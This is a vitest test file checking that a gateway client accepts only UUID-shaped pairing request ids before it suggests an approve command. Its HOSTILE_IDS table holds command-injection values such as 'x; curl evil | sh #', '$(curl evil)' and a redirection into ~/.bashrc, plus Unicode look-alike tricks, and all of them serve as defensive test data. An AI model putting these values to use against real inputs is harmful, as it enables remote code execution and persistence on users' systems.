import { randomUUID } from "node:crypto";
import { describe, expect, it } from "vitest";
import { classifyConnectError } from "../../src/gateway/connect-failure";
import { describeConnectionFailure } from "../../src/gateway/describe-failure";
import { isPairingRequestId } from "../../src/gateway/pairing-request-id";
import type { ConnectionFailure } from "../../src/gateway/types";
import { createPairingStore } from "../../src/testing/mock-device-auth";

// The real gateway and the mock both issue `crypto.randomUUID()` values.
const ISSUED_ID = "5f0c2a9e-8b1d-4c3e-9a7f-2d6b1e4c8a03";

const HOSTILE_IDS: Record<string, string> = {
  "a shell command after a semicolon": "x; curl evil | sh #",
  "a second command after a newline": `${ISSUED_ID}\ncurl evil | sh`,
  "a trailing newline": `${ISSUED_ID}\n`,
  "a carriage return": `${ISSUED_ID}\rcurl evil | sh`,
  "command substitution": `$(curl evil)`,
  backticks: "`curl evil`",
  "a pipe": `${ISSUED_ID}|sh`,
  "an ampersand": `${ISSUED_ID}&&sh`,
  "a space": `${ISSUED_ID} --force`,
  "an option instead of an id": "--help",
  "quotes and a redirection": `'${ISSUED_ID}' > ~/.bashrc`,
  "fullwidth look-alike digits": ISSUED_ID.replace("5", "\uff15"),
  "a Cyrillic look-alike letter": ISSUED_ID.replace("a", "\u0430"),
  "a non-breaking hyphen": ISSUED_ID.replace("-", "\u2011"),
  "a zero-width space": `${ISSUED_ID}\u200b`,
  "a right-to-left override": `\u202e${ISSUED_ID}`,
  "upper-case hex, which the gateway never issues": ISSUED_ID.toUpperCase(),
  "a very long id": `${ISSUED_ID}${"0".repeat(100_000)}`,
  "a UUID without hyphens": ISSUED_ID.replaceAll("-", ""),
  "a short id": "req-42",
  "an empty string": "",
};

const PAIRING_ERROR = {
  code: "NOT_PAIRED",
  message: "pairing required: device is not approved yet",
  details: {
    code: "PAIRING_REQUIRED",
    reason: "not-paired",
    recommendedNextStep: "wait_then_retry",
  },
} as const;

function pairingFailureFor(requestId: unknown): ConnectionFailure {
  const outcome = classifyConnectError(
    { ...PAIRING_ERROR, details: { ...PAIRING_ERROR.details, requestId } },
    "http://192.168.1.20:5173",
  );
  if (outcome.kind !== "fail") throw new Error(`expected fail, got ${outcome.kind}`);
  return outcome.failure;
}

describe("isPairingRequestId", () => {
  it("should accept the id shape the gateway issues", () => {
    expect(isPairingRequestId(ISSUED_ID)).toBe(true);
    for (let i = 0; i < 50; i += 1) expect(isPairingRequestId(randomUUID())).toBe(true);
  });

  it.each(Object.entries(HOSTILE_IDS))("should reject %s", (_, value) => {
    expect(isPairingRequestId(value)).toBe(false);
  });

  it("should accept the ids the mock gateway issues", () => {
    const pairings = createPairingStore();
    const ids = ["device-a", "device-b", "device-c"].map(
      (deviceId) => pairings.request(deviceId, ["operator.questions"]).requestId,
    );
    expect(new Set(ids).size).toBe(3);
    for (const id of ids) expect(isPairingRequestId(id)).toBe(true);
  });
});

describe("given the gateway asks for pairing approval", () => {
  it("should offer the approve command for an id of the gateway's shape", () => {
    expect(pairingFailureFor(ISSUED_ID)).toMatchObject({
      kind: "pairing-required",
      requestId: ISSUED_ID,
      command: `openclaw devices approve ${ISSUED_ID}`,
    });
  });

  it.each(Object.entries(HOSTILE_IDS))(
    "should offer no command when the request id holds %s, and still describe the failure",
    (_, value) => {
      const failure = pairingFailureFor(value);
      expect(failure).toMatchObject({ kind: "pairing-required", requestId: null, command: null });
      const description = describeConnectionFailure(failure);
      expect(description.title).toMatch(/pairing approval/);
      expect(description.action).toBe(
        "Approve the pending device request on the gateway host (openclaw devices list).",
      );
    },
  );

  it("should offer no command when the request id is not a string", () => {
    expect(pairingFailureFor(42)).toMatchObject({ requestId: null, command: null });
  });
});
